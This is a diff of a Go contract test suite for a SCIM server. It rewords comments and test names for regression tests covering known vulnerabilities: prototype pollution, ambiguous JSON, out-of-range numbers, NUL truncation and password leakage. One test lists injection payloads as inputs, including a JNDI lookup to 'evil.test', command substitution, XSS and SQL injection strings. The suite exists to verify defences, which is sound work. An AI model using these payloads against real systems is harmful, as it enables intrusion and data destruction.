@@ -9,10 +9,10 @@ import (
 	"github.com/quoin-dev/quoin/test/contract/scim/internal/suite"
 )
 
-// What went wrong elsewhere, case by case (shared/domain/scim.md section 6): bodies.
+// Regression tests for known vulnerabilities of SCIM servers: request bodies.
 
-// scim-patch CVE-2026-48170: a key "__proto__.x" reached what all objects have in common.
-func TestScimPatchCVE2026_48170_NoKeyReachesBeyondTheSchema(t *testing.T) {
+// scim-patch CVE-2026-48170: a key "__proto__.x" modified the prototype of all objects.
+func TestScimPatchCVE2026_48170_KeysAreInTheSchema(t *testing.T) {
 	for profile, key := range suite.ProfileKeys {
 		a, run := acme.WithToken(acme.Token(key)), suite.RunID()
 		id := a.CreateUser(t, "proto-"+run, `"name":{"givenName":"G"}`)
@@ -36,13 +36,13 @@ func TestScimPatchCVE2026_48170_NoKeyReachesBeyondTheSchema(t *testing.T) {
 			}
 		}
 		if after := string(a.Call(t, "GET", "/Users/"+id, nil).WantStatus(200).Raw); after != before {
-			t.Errorf("%s: was %s\nis %s", profile, before, after)
+			t.Errorf("%s: before %s\nafter %s", profile, before, after)
 		}
 	}
 }
 
-// Doyensec, "SCIM Hunting": JSON that two parsers read in two ways.
-func TestDoyensecJSONMeansOneThing(t *testing.T) {
+// Doyensec, "SCIM Hunting": ambiguous JSON.
+func TestDoyensecAmbiguousJSON(t *testing.T) {
 	a, run := acme.WithToken(acme.RFC), suite.RunID()
 	id := a.CreateUser(t, "json-"+run, `"active":true`)
 	before := string(a.Call(t, "GET", "/Users/"+id, nil).WantStatus(200).Raw)
@@ -88,7 +88,7 @@ func TestDoyensecJSONMeansOneThing(t *testing.T) {
 		got.WantError(400, "invalidSyntax")
 	}
 	if after := string(a.Call(t, "GET", "/Users/"+id, nil).WantStatus(200).Raw); after != before {
-		t.Errorf("was %s\nis %s", before, after)
+		t.Errorf("before %s\nafter %s", before, after)
 	}
 	for _, media := range []string{"text/plain", "application/xml", "multipart/form-data; boundary=x", "application/x-www-form-urlencoded", "application/scim+jsonx", "/"} {
 		a.Call(t, "PUT", "/Users/"+id, `{`+own+`}`, "Content-Type", media).WantError(415, "", "Content-Type")
@@ -96,7 +96,7 @@ func TestDoyensecJSONMeansOneThing(t *testing.T) {
 	a.Call(t, "PUT", "/Users/"+id, "\x1f\x8b\x08\x00", "Content-Encoding", "gzip").WantError(400, "invalidSyntax")
 }
 
-// Numbers that do not fit are refused, and none of them takes long.
+// TestNumbersThatDoNotFit checks that numbers out of range are rejected quickly.
 func TestNumbersThatDoNotFit(t *testing.T) {
 	a, run := acme.WithToken(acme.RFC), suite.RunID()
 	id := a.CreateUser(t, "numbers-"+run)
@@ -120,9 +120,9 @@ func TestNumbersThatDoNotFit(t *testing.T) {
 	a.Call(t, "POST", "/Bulk", `{"schemas":["`+suite.BulkURN+`"],"failOnErrors":1e99,"Operations":[{"method":"DELETE","path":"/Users/x"}]}`).WantError(400, "invalidValue", "failOnErrors")
 }
 
-// SAP scimono, GHSA-qjp7-gvrw-vxmf: a client's text was evaluated as an expression. Ours come back as
-// they were sent: in attributes, in filters and in the details of errors.
-func TestSAPScimonoGHSAqjp7_TextsAreNoTemplates(t *testing.T) {
+// SAP scimono, GHSA-qjp7-gvrw-vxmf: a value was evaluated as an expression. Values are returned unchanged in
+// attributes, filters and error details.
+func TestSAPScimonoGHSAqjp7_ValuesAreNotTemplates(t *testing.T) {
 	a, run := acme.WithToken(acme.RFC), suite.RunID()
 	for _, text := range []string{
 		"%s%n%d%x%!v(PANIC=", "${7*7}", "${jndi:ldap://evil.test/x}", "{{7*7}}", "{{.}}", "#{7*7}", "<%= 7*7 %>", "$(id)", "`id`", "<script>alert(1)</script>", "'; DROP TABLE users; --",
@@ -144,7 +144,7 @@ func TestSAPScimonoGHSAqjp7_TextsAreNoTemplates(t *testing.T) {
 		}
 		found := a.Call(t, "POST", "/Users/.search", `{"schemas":["`+suite.SearchURN+`"],"filter":`+asText(`userName eq `+string(name))+`}`).WantStatus(200).Want("totalResults", 1)
 		found.Want("Resources.0.id", id)
-		// In details they stand quoted, so that nobody takes them for ours.
+		// Details quote values of the request.
 		unknown := a.Call(t, "POST", "/Users", `{"userName":"x`+run+`",`+string(quoted)+`:1}`)
 		unknown.WantError(400, "invalidSyntax")
 		bad := a.Call(t, "PATCH", "/Users/"+id, suite.PatchBody(`{"op":`+string(quoted)+`,"path":"title"}`))
@@ -163,7 +163,7 @@ func TestSAPScimonoGHSAqjp7_TextsAreNoTemplates(t *testing.T) {
 	}
 }
 
-// asText is a text as JSON.
+// asText returns a text as a JSON string.
 func asText(s string) string {
 	data, err := json.Marshal(s)
 	if err != nil {
@@ -172,9 +172,8 @@ func asText(s string) string {
 	return string(data)
 }
 
-// NUL ends a text in some languages: here it is a character like any other, or refused, but what
-// stands before it is never taken for the whole.
-func TestNULEndsNoText(t *testing.T) {
+// TestNULDoesNotTruncate checks that a value with NUL is stored or rejected, but not truncated.
+func TestNULDoesNotTruncate(t *testing.T) {
 	a, run := acme.WithToken(acme.RFC), suite.RunID()
 	whole := a.CreateUser(t, "nul-"+run)
 	got := a.Call(t, "POST", "/Users", `{"userName":"nul-`+run+`\u0000evil"}`)
@@ -195,9 +194,9 @@ func TestNULEndsNoText(t *testing.T) {
 	a.Call(t, "GET", "/Users/%ff%fe", nil).WantStatus(404)
 }
 
-// Okta always sends a password. It is taken, kept nowhere, shown nowhere, and nothing can be asked
-// about it.
-func TestPasswordsAreKeptNowhere(t *testing.T) {
+// TestPasswordsAreNotStored checks that a password, which Okta always sends, is accepted, and neither stored,
+// returned nor usable in filters.
+func TestPasswordsAreNotStored(t *testing.T) {
 	const secret = "Pa55-w0rd-kept-nowhere"
 	a, run := acme.WithToken(acme.Okta), suite.RunID()
 	id := a.CreateUser(t, "password-"+run, `"password":"`+secret+`"`)
@@ -209,7 +208,7 @@ func TestPasswordsAreKeptNowhere(t *testing.T) {
 		a.Call(t, "POST", "/Users", `{"userName":"password-`+run+`","password":"`+secret+`"}`), a.Call(t, "POST", "/Users", `{"userName":"p-`+run+`","password":["`+secret+`"],"nothing":1}`),
 	} {
 		if strings.Contains(string(got.Raw), secret) || strings.Contains(string(got.Raw), `"password":`) {
-			t.Errorf("%s shows the password: %s", got.Request, got.Raw)
+			t.Errorf("%s contains the password: %s", got.Request, got.Raw)
 		}
 	}
 	for _, filter := range []string{`password eq "` + secret + `"`, `password pr`, `not (password sw "P")`, `userName eq "x" or password co "5"`, suite.UserURN + `:password ne "x"`, `PASSWORD eq "x"`} {
